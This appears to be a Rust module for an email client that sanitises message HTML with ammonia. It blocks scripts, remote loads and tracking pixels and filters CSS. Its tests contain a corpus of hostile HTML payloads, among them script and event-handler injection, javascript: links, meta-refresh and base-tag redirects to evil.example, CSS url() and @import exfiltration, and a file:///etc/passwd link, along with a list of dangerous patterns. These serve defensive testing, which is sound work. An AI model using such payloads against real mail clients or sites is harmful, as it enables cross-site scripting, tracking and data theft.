//! The first wall: a message's HTML through `ammonia`'s allowlist, so that what is left
//! runs nothing, reaches no host and navigates nowhere, even shown where scripts and the
//! network are on.
//!
//! - Elements and attributes: ammonia's conservative defaults (no `script`, `style`
//!   element, `form`, `meta`, `base`, `link`, `iframe`, `object`, `embed`, `svg`,
//!   `picture`/`source`, `video`/`audio`; no event handler; no `srcset` or `background`),
//!   plus the layout attributes newsletters use on tables and cells.
//! - Links: `http`, `https` and `mailto` only; relative URLs dropped; `rel="noopener
//!   noreferrer"`.
//! - Images: `cid:` (the message's own parts) kept; remote ones (`http`, `https`) removed
//!   and listed ([`Sanitised::remote`]), trackers marked, so the pane can say "Remote
//!   images blocked (12, of which 3 trackers)" and load them through the app only when
//!   asked; `data:` removed.
//! - `style` attributes: only layout and colour properties survive, and no declaration
//!   holding `url(`, `expression`, `@import`, an escape or another scheme.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::{Arc, Mutex, PoisonError};

use serde::Serialize;

/// A remote image the sanitiser removed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct RemoteImage {
    /// Its address.
    pub url: String,
    /// Whether it looks like a tracking pixel (a known tracker host or path): never
    /// loaded, even when the person loads the others.
    pub tracker: bool,
}

/// HTML made safe to show, and what was removed that the person may want.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Sanitised {
    /// The safe HTML.
    pub html: String,
    /// The remote images removed, in document order.
    pub remote: Vec<RemoteImage>,
}

/// CSS properties kept in a `style` attribute.
const CSS_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "line-height",
    "letter-spacing",
    "text-align",
    "text-decoration",
    "text-transform",
    "vertical-align",
    "white-space",
    "word-break",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-style",
    "border-width",
    "border-radius",
    "border-collapse",
    "border-spacing",
    "width",
    "max-width",
    "min-width",
    "height",
    "max-height",
    "min-height",
    "display",
    "table-layout",
    "list-style-type",
];

/// Hosts and paths of well-known open-tracking pixels.
const TRACKERS: &[&str] = &[
    "list-manage.com/track",
    "mailchimp.com/track",
    "sendgrid.net/wf/open",
    "mandrillapp.com/track",
    "mailgun.org/o/",
    "hubspotemail.net",
    "google-analytics.com",
    "doubleclick.net",
    "/open.gif",
    "/pixel",
    "/track/open",
    "/o.gif",
];

/// The HTML of one part, made safe (see the module's rules).
pub fn sanitise(html: &str) -> Sanitised {
    let removed: Arc<Mutex<Vec<RemoteImage>>> = Arc::default();
    let seen = removed.clone();
    let mut builder = ammonia::Builder::default();
    builder
        .url_schemes(HashSet::from(["http", "https", "mailto", "cid"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .add_generic_attributes(["style", "align", "dir"])
        .add_tags(["center", "font"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes(
            "table",
            ["bgcolor", "cellpadding", "cellspacing", "border", "width"],
        )
        .add_tag_attributes("td", ["bgcolor", "valign", "width", "height"])
        .add_tag_attributes("th", ["bgcolor", "valign", "width", "height"])
        .add_tag_attributes("tr", ["bgcolor", "valign"])
        .attribute_filter(
            move |element, attribute, value| match (element, attribute) {
                ("img", "src") => image(value, &seen),
                (_, "style") => style(value),
                _ => Some(Cow::Borrowed(value)),
            },
        );
    let html = builder.clean(html).to_string();
    let remote = std::mem::take(&mut *removed.lock().unwrap_or_else(PoisonError::into_inner));
    Sanitised { html, remote }
}

fn image<'a>(src: &'a str, removed: &Mutex<Vec<RemoteImage>>) -> Option<Cow<'a, str>> {
    let lower = src.trim().to_ascii_lowercase();
    if lower.starts_with("cid:") {
        return Some(Cow::Borrowed(src));
    }
    if lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("//") {
        let tracker = TRACKERS.iter().any(|t| lower.contains(t));
        removed
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(RemoteImage {
                url: src.trim().to_owned(),
                tracker,
            });
    }
    None
}

/// The declarations of a `style` attribute that are layout or colour and reach nothing.
fn style(value: &str) -> Option<Cow<'_, str>> {
    let kept: Vec<String> = value
        .split(';')
        .filter_map(|declaration| {
            let (property, v) = declaration.split_once(':')?;
            let property = property.trim().to_ascii_lowercase();
            let v = v.trim();
            let lower = v.to_ascii_lowercase();
            let reaches = [
                "url(",
                "expression",
                "@import",
                "\\",
                "javascript:",
                "behavior",
                "binding",
                "image-set",
                "src(",
                "attr(",
            ]
            .iter()
            .any(|bad| lower.contains(bad));
            (CSS_PROPERTIES.contains(&property.as_str()) && !reaches && !v.is_empty())
                .then(|| format!("{property}: {v}"))
        })
        .collect();
    (!kept.is_empty()).then(|| Cow::Owned(kept.join("; ")))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Nothing in `html` that could run, load or navigate.
    fn assert_inert(html: &str) {
        let lower = html.to_ascii_lowercase();
        for bad in [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "javascript:",
            "vbscript:",
            "<meta",
            "<base",
            "<link",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<svg",
            "<style",
            "<video",
            "<audio",
            "<source",
            "<picture",
            "srcset",
            "background=",
            "url(",
            "@import",
            "expression(",
            "http-equiv",
            "data:",
            "src=\"http",
            "src=\"//",
            "formaction",
        ] {
            assert!(!lower.contains(bad), "{bad} left in {html}");
        }
    }

    #[test]
    fn the_hostile_corpus_leaves_nothing_that_runs_loads_or_navigates() {
        let corpus = [
            "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">",
            "<a href=\"javascript:alert(1)\">pay</a><a href=\"vbscript:msgbox\">x</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\"><a href=\"/login\">login</a>",
            "<form action=\"https://evil.example/\"><input name=p><button formaction=\"https://evil.example\">Go</button></form>",
            "<img src=\"https://track.example/open.gif\" width=1 height=1>",
            "<div style=\"background:url(https://evil.example/bg.png)\">x</div>",
            "<style>@import url(https://evil.example/a.css); input[value^=a]{background:url(https://evil.example/a)}</style>",
            "<link rel=prefetch href=\"https://evil.example/p\"><link rel=dns-prefetch href=\"//evil.example\"><link rel=stylesheet href=\"https://evil.example/s.css\">",
            "<img srcset=\"https://evil.example/1x.png 1x\"><picture><source srcset=\"https://evil.example/p.webp\"><img src=\"https://evil.example/p.png\"></picture>",
            "<table background=\"https://evil.example/t.png\"><tr><td background=\"https://evil.example/c.png\">x</td></tr></table>",
            "<svg onload=\"alert(1)\"><script>alert(1)</script></svg><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<iframe src=\"https://evil.example/\"></iframe><object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/e\">",
            "<video autoplay src=\"https://evil.example/v.mp4\"></video><audio src=\"https://evil.example/a.mp3\" autoplay></audio>",
            "<a href=\"file:///etc/passwd\">f</a><a href=\"smb://evil.example/share\">s</a>",
            "<div style=\"width: expression(alert(1)); color: red\">x</div><p style=\"behavior:url(x.htc)\">y</p>",
            "<img src=\"//evil.example/protocol-relative.png\">",
        ];
        for html in corpus {
            let out = sanitise(html);
            assert_inert(&out.html);
        }
    }

    #[test]
    fn remote_images_are_removed_and_listed_with_the_trackers_marked() {
        let out = sanitise(
            "<p>Hi</p><img src=\"https://cdn.example/hero.png\" alt=\"Sale\">\
             <img src=\"https://ana.list-manage.com/track/open.php?u=1\" width=1 height=1>\
             <img src=\"cid:logo@example\">",
        );
        assert_eq!(out.remote.len(), 2);
        assert!(!out.remote[0].tracker);
        assert!(out.remote[1].tracker);
        assert!(
            out.html.contains("alt=\"Sale\""),
            "the place stays, without its source"
        );
        assert!(
            out.html.contains("src=\"cid:logo@example\""),
            "inline parts kept"
        );
        assert_inert(&out.html);
    }

    #[test]
    fn links_keep_their_real_target_and_layout_css_survives() {
        let out = sanitise(
            "<a href=\"https://bank.example/login\" target=\"_blank\">Your bank</a>\
             <a href=\"mailto:ana@example.com\">mail</a>\
             <table><tr><td style=\"color: #333; padding: 4px; position: fixed; background: url(x)\">c</td></tr></table>",
        );
        assert!(out.html.contains("href=\"https://bank.example/login\""));
        assert!(out.html.contains("rel=\"noopener noreferrer\""));
        assert!(!out.html.contains("target="));
        assert!(out.html.contains("href=\"mailto:ana@example.com\""));
        assert!(out.html.contains("color: #333; padding: 4px"));
        assert!(!out.html.contains("position"), "not an allowed property");
    }
}
